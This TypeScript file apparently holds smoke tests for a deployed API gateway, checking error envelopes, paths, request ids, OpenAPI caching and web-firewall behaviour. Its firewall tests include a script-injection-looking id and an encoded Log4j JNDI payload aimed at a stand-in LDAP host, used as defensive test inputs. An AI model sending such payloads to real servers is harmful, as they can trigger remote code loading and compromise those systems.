import { gzipSync } from 'node:zlib'
import type { ClientOptions } from '../../client/options.ts'
import { type Step, step } from './operation-steps.ts'

interface Received {
  readonly status: number
  readonly headers: Headers
  readonly text: string
  // biome-ignore lint/suspicious/noExplicitAny: any response
  readonly json: any
}

type Request = NonNullable<Parameters<typeof fetch>[1]>

const ask = async (url: string, request: Request = {}): Promise<Received> => {
  const response = await fetch(url, request)
  const { status, headers } = response
  const text = await response.text()
  const json =
    text && headers.get('content-type')?.startsWith('application/json') ? JSON.parse(text) : undefined
  return { status, headers, text, json }
}

/** Returns the condition that a response is an error with this status in the service's envelope. */
const refused =
  (status: number, allow: string | null = null) =>
  ({ headers, json, ...received }: Received): boolean =>
    received.status === status &&
    json?.errors?.length > 0 &&
    json.errors.every(({ code }: { code: unknown }) => code === status) &&
    headers.get('x-request-id') !== null &&
    headers.get('allow') === allow

const isList = ({ status, json }: Received): boolean => status === 200 && Array.isArray(json?.data?.products)

/** Headers of a request that is signed for AWS. They must not keep the gateway from responding 404. */
const signature = {
  authorization:
    'AWS4-HMAC-SHA256 Credential=EXAMPLE/20260101/eu-west-1/execute-api/aws4_request, SignedHeaders=host, Signature=0',
  'x-amz-date': '20260101T000000Z',
}

const refusals = (baseUrl: string, key: Record<string, string>): Step[] => {
  const nowhere = `${baseUrl}/api/nothing`
  const post = (headers: Record<string, string>, body: string | Buffer<ArrayBuffer>) => () =>
    ask(`${baseUrl}/api/products`, { method: 'POST', headers, body })
  return [
    step('no credentials', () => ask(`${baseUrl}/api/products`), refused(401)),
    step('no such path', () => ask(nowhere), refused(404)),
    step('no such path, with a key', () => ask(nowhere, { headers: key }), refused(404)),
    step('no such path, signed for AWS', () => ask(nowhere, { headers: signature }), refused(404)),
    step(
      'no such path, unknown content',
      () => ask(nowhere, { method: 'POST', headers: { 'content-type': 'a/b' } }),
      refused(404),
    ),
    step('no such path, deeper', () => ask(`${baseUrl}/api/products/a/b`, { headers: key }), refused(404)),
    // The local service has its console there.
    step(
      'no such path, the root',
      () => ask(`${baseUrl}/`, { headers: key, redirect: 'manual' }),
      (received) => refused(404)(received) || received.headers.get('location') === '/console',
    ),
    step(
      'no such method',
      () => ask(`${baseUrl}/api/products`, { method: 'DELETE', headers: key }),
      (received) =>
        refused(405, 'GET, HEAD, POST')(received) &&
        received.json.errors[0].detail.startsWith('DELETE is not allowed'),
    ),
    // Shows that the gateway passes the header on, whether or not it decompresses the body.
    step(
      'a compressed body',
      post({ ...key, 'content-encoding': 'gzip' }, gzipSync('{"id": "smoke", "name": "Compressed"}')),
      refused(415),
    ),
    // More than Lambda accepts in base64. The response may or may not be in the envelope.
    step('too large for a function', post(key, ' '.repeat(5_000_000)), ({ status }) => status === 413),
  ]
}

const paths = (baseUrl: string, key: Record<string, string>): Step[] => {
  const headers = { ...key, 'x-request-id': 'smoke-test' }
  const hasSentId = (received: Received) => received.headers.get('x-request-id') === headers['x-request-id']
  return [
    step('a slash after the path', () => ask(`${baseUrl}/api/products/`, { headers: key }), isList),
    step('slashes before the path', () => ask(`${baseUrl}//api/products`, { headers: key }), isList),
    step(
      'request id, sent to an operation',
      () => ask(`${baseUrl}/api/products`, { headers }),
      (received) => isList(received) && hasSentId(received),
    ),
    step(
      'request id, of the gateway',
      () => ask(`${baseUrl}/api/nothing`, { headers }),
      (received) => refused(404)(received) && !hasSentId(received),
    ),
  ]
}

/** An id that looks like an attack by a web page. The firewall must accept it wherever an id may be. */
const lookingLikeAttack = encodeURIComponent('http://192.0.2.1/<script>alert(1)</script>/a.log')
/** The Log4j attack ${jndi:ldap://192.0.2.1/a}, encoded. */
const knownAttack = '%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D'

const firewall = (baseUrl: string, key: Record<string, string>): Step[] => {
  const get = (path: string) => () => ask(`${baseUrl}/api/${path}`, { headers: key })
  return [
    step('a strange id, in a path', get(`products/${lookingLikeAttack}`), refused(404)),
    step('a strange id, in a filter', get(`prices?product_id=${lookingLikeAttack}`), refused(422)),
    step(
      'a known attack, or no firewall',
      get(`products/${knownAttack}`),
      (received) => refused(403)(received) || refused(404)(received),
    ),
  ]
}

const document = (baseUrl: string): Step[] => {
  const url = `${baseUrl}/openapi.json`
  const holds = ({ status, headers, json }: Received): boolean =>
    status === 200 &&
    headers.get('cache-control')?.startsWith('public') === true &&
    json?.servers?.[0]?.url === baseUrl
  const askAgain = async () => {
    const { headers } = await ask(url)
    return ask(url, { headers: { 'if-none-match': headers.get('etag') ?? '' } })
  }
  return [
    step('OpenAPI document', () => ask(url), holds),
    step('OpenAPI document, with a slash', () => ask(`${url}/`), holds),
    step('OpenAPI document, known', askAgain, ({ status }) => status === 304),
  ]
}

/**
 * Returns the steps for the pages, which are 404 unless the stage serves them. If a script is readable, the gateway decodes the
 * base64 of compressed responses.
 */
const pages = (baseUrl: string): Step[] => {
  const files: readonly [name: string, path: string, type: string, minLength: number][] = [
    ['documentation page', '/docs', 'text/html', 10_000],
    ['script of the page', '/docs/scalar.js', 'text/javascript', 1_000_000],
    ['console', '/console', 'text/html', 300],
    ['console, with a slash', '/console/', 'text/html', 300],
    ['script of the console', '/console/console.js', 'text/javascript', 50_000],
  ]
  return files.map(([name, path, type, minLength]) =>
    step(
      `${name}, or none`,
      () => ask(baseUrl + path),
      ({ status, headers, text }) =>
        status === 404 ||
        (status === 200 && headers.get('content-type')?.startsWith(type) === true && text.length > minLength),
    ),
  )
}

/** Returns the steps that test the gateway, which only a deployment has. */
export const gatewaySteps = ({ baseUrl, appId, apiKey }: ClientOptions): Step[] => {
  const key = { authorization: `Bearer ${apiKey}`, 'x-app-id': appId }
  return [
    ...refusals(baseUrl, key),
    ...paths(baseUrl, key),
    ...firewall(baseUrl, key),
    ...document(baseUrl),
    ...pages(baseUrl),
  ]
}
